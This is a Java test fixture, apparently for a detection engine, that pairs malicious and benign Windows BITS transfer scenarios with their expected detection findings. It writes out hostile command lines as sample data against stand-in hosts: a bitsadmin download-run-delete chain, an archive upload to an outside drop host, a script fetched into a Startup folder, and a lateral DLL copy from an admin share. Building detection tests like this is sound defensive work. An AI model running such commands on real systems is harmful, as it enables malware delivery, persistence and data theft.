package org.bitshound.testing.evidence.stories;

import static org.bitshound.testing.evidence.stories.Scene.SYSTEM32;

import java.util.List;
import org.bitshound.testing.evidence.samples.SampleProcess;
import org.bitshound.testing.evidence.samples.SampleUser;

/// What is moved, where from and where to.
final class TransferStories {
  private static final String REPOSITORY = "https://repo.lindenwerk.example/";

  private TransferStories() {}

  static List<Twins> all() {
    return List.of(
        new Twins(
            "One-shot download",
            Story.of(
                    "A user's prompt has bitsadmin fetch a program from a bare address",
                    TransferStories::toolFromAddress)
                .found(
                    "bitsadmin-transfer", "process-intent", "risky-destination", "unapproved-url")
                .never("follow-on-execution", "notify-command", "masquerade"),
            Story.of(
                "An administrator has bitsadmin fetch a setup from the house's repository",
                TransferStories::setupFromRepository)),
        new Twins(
            "Fetched and run",
            Story.of(
                    "A command line fetches a program and runs it, as web delivery does",
                    TransferStories::fetchedAndRun)
                .found("follow-on-execution", "bitsadmin-transfer", "unapproved-url")
                .never("notify-command", "service-child"),
            Story.of(
                "In a change window an administrator fetches an agent from the repository and runs it",
                TransferStories::rolloutOfAgent)),
        new Twins(
            "Lateral copy",
            Story.of(
                    "By WMI a library is copied from another machine's administrative share",
                    TransferStories::lateralCopy)
                .found("bitsadmin-transfer", "process-intent", "unapproved-url")
                .never("follow-on-execution", "upload-job"),
            Story.of(
                "By remote PowerShell an administrator copies from the house's software share",
                TransferStories::copyFromSoftwareShare)),
        new Twins(
            "Upload",
            Story.of("An archive is sent to an outside host", TransferStories::upload)
                .found("upload-job", "bitsadmin-transfer", "unapproved-url")
                .never("risky-destination", "local-source"),
            Story.of(
                "The Configuration Manager client sends a message to its management point",
                TransferStories::configManagerMessage)),
        new Twins(
            "Autostart",
            Story.of("A script is fetched into a start-up folder", TransferStories::startUpFolder)
                .found("risky-destination", "unapproved-url")
                .never("follow-on-execution"),
            Story.of(
                "A script of the house fetches a document into a user's folder",
                TransferStories::documentOfTheHouse)),
        new Twins(
            "Credentials",
            Story.of(
                    "A job to an outside host is given a name and a password",
                    TransferStories::credentialsOutside)
                .found("credentials-outside", "job-persistence-command", "unapproved-url")
                .never("upload-job"),
            Story.of(
                "In a change window a job to the repository is given a name and a password",
                TransferStories::credentialsForRepository)));
  }

  private static Scene toolFromAddress() {
    Scene scene = Scene.watched();
    scene.transfer(
        scene.promptOf(scene.user),
        "n",
        "http://203.0.113.47:8080/st/tool.png",
        "C:\\Users\\Public\\tool.exe");
    return scene;
  }

  private static Scene setupFromRepository() {
    Scene scene = Scene.watched();
    scene.transfer(
        scene.promptOf(scene.admin),
        "setup",
        REPOSITORY + "agent/setup.msi",
        "C:\\ProgramData\\Rollout\\setup.msi");
    return scene;
  }

  private static Scene fetchedAndRun() {
    Scene scene = Scene.audited();
    String program = scene.user.profile() + "\\AppData\\Roaming\\6f46.exe";
    String url = "http://198.51.100.23/a";
    SampleProcess shell =
        scene.start(
            scene.desktopOf(scene.user),
            Scene.CMD,
            "cmd.exe /c bitsadmin /transfer 6f46 "
                + url
                + " %APPDATA%\\6f46.exe&%APPDATA%\\6f46.exe&del %APPDATA%\\6f46.exe");
    SampleProcess tool = scene.bitsadmin(shell, "/transfer 6f46 " + url + " " + program);
    scene.fetch(tool, "6f46", url, program);
    scene.start(shell, program, program);
    return scene;
  }

  private static Scene rolloutOfAgent() {
    Scene scene = Scene.audited().tonight();
    String program = "C:\\ProgramData\\Rollout\\agent.exe";
    SampleProcess shell = scene.promptOf(scene.admin);
    scene.transfer(shell, "agent", REPOSITORY + "agent/agent.exe", program);
    scene.start(shell, program, program + " /quiet");
    return scene;
  }

  private static Scene lateralCopy() {
    Scene scene = Scene.watched();
    String from = "\\\\DC-01.lindenwerk.example\\c$\\windows\\x.dll";
    SampleProcess wmi =
        scene.running(
            scene.admin,
            SYSTEM32 + "wbem\\WmiPrvSE.exe",
            SYSTEM32 + "wbem\\wmiprvse.exe -Embedding");
    SampleProcess shell =
        scene.start(
            wmi,
            Scene.CMD,
            "cmd.exe /c bitsadmin /transfer debjob /download " + from + " C:\\Windows\\x.dll");
    scene.transfer(shell, "debjob", from, "C:\\Windows\\x.dll");
    return scene;
  }

  private static Scene copyFromSoftwareShare() {
    Scene scene = Scene.watched();
    String from = "\\\\fs-01.lindenwerk.example\\software\\agent\\setup.msi";
    String to = "C:\\ProgramData\\Rollout\\setup.msi";
    SampleProcess remote =
        scene.running(
            scene.admin, SYSTEM32 + "wsmprovhost.exe", SYSTEM32 + "wsmprovhost.exe -Embedding");
    SampleProcess shell =
        scene.powershell(
            remote, "-Command \"Start-BitsTransfer -Source " + from + " -Destination " + to + "\"");
    scene.fetch(shell, "BITS Transfer", from, to);
    return scene;
  }

  private static Scene upload() {
    Scene scene = Scene.watched();
    String archive = "C:\\ProgramData\\pkg\\projects.7z";
    String sink = "https://drop.cdn-sync.example/in/projects.7z";
    SampleProcess tool =
        scene.bitsadmin(scene.promptOf(scene.user), "/transfer n /upload " + sink + " " + archive);
    scene.fetch(tool, "n", sink, archive);
    return scene;
  }

  private static Scene configManagerMessage() {
    Scene scene = Scene.watched();
    String id = "{6B1F5A04-9C2E-4D7B-A0C3-51E0A97C2F10}";
    SampleProcess client =
        scene.running(
            SampleUser.SYSTEM, "C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe");
    scene.fetch(
        client,
        "CCM Message Upload " + id,
        "http://cm-01.lindenwerk.example/CCM_Incoming/" + id,
        "C:\\Windows\\CCM\\ServiceData\\LocalPayload\\" + id);
    return scene;
  }

  private static Scene startUpFolder() {
    Scene scene = Scene.watched();
    String folder =
        scene.user.profile()
            + "\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\";
    String url = "https://static.cdn-sync.example/w/s.vbs";
    SampleProcess shell = scene.powershell(scene.desktopOf(scene.user), "-NoProfile");
    Records.script(
        scene, shell, "Start-BitsTransfer -Source " + url + " -Destination '" + folder + "s.vbs'");
    scene.fetch(shell, "BITS Transfer", url, folder + "s.vbs");
    return scene;
  }

  private static Scene documentOfTheHouse() {
    Scene scene = Scene.watched();
    String to = scene.user.profile() + "\\Documents\\handbook.pdf";
    String url = REPOSITORY + "docs/handbook.pdf";
    SampleProcess shell = scene.powershell(scene.desktopOf(scene.user), "-NoProfile");
    Records.script(
        scene, shell, "Start-BitsTransfer -Source " + url + " -Destination '" + to + "'");
    scene.fetch(shell, "BITS Transfer", url, to);
    return scene;
  }

  private static Scene credentialsOutside() {
    return withCredentials(Scene.watched(), "https://static.cdn-sync.example/w/", "p.hartmann");
  }

  private static Scene credentialsForRepository() {
    return withCredentials(Scene.watched().tonight(), REPOSITORY + "agent/", "adm.reyes");
  }

  private static Scene withCredentials(Scene scene, String folder, String name) {
    SampleUser who = name.startsWith("adm") ? scene.admin : scene.user;
    String url = folder + "pack.cab";
    StagedJob.create(scene, scene.promptOf(who), "pack")
        .add(url, "C:\\ProgramData\\Rollout\\pack.cab")
        .set("setcredentials", "SERVER BASIC " + name + " Winter-2026")
        .resume()
        .fetched(url, 90_112)
        .complete();
    return scene;
  }
}
